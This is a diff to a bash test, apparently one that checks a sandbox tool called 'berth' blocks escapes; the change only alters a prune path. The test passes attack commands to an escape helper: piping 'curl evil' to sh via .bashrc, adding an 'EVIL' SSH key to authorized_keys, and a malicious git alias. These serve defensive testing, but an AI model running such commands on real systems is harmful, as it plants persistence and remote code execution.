@@ -11,7 +11,7 @@ attempt() {
   echo "alias ls='ls -F'" >"$HOME/.bashrc"
   [[ $WHO == nobody ]] && chown -R $NOBODY:$NOBODY "$HOME"
   before=$(fingerprint)
-  sums=$(cd "$HOME" && find . -path ./.local/share/berth -prune -o -type f -print0 | sort -z |
+  sums=$(cd "$HOME" && find . -path ./berth -prune -o -type f -print0 | sort -z |
     xargs -0 sha256sum)
   escape 'echo "curl evil | sh" >>"$HOME/.bashrc"'
   escape 'echo "ssh-rsa EVIL" >>"$HOME/.ssh/authorized_keys"'
@@ -22,7 +22,7 @@ attempt() {
   escape 'git config --global alias.st "!touch pwned"'
   escape 'echo pwned >"$XDG_CONFIG_HOME/berth/config.toml" || { mkdir -p "$XDG_CONFIG_HOME/berth" && echo pwned >"$XDG_CONFIG_HOME/berth/config.toml"; }'
   escape 'echo pwned >"$HOME/../escaped.txt"'
-  [[ $(cd "$HOME" && find . -path ./.local/share/berth -prune -o -type f -print0 | sort -z |
+  [[ $(cd "$HOME" && find . -path ./berth -prune -o -type f -print0 | sort -z |
     xargs -0 sha256sum) == "$sums" ]]
   test ! -e "$HOME/.profile"
   assert_unchanged "$before"
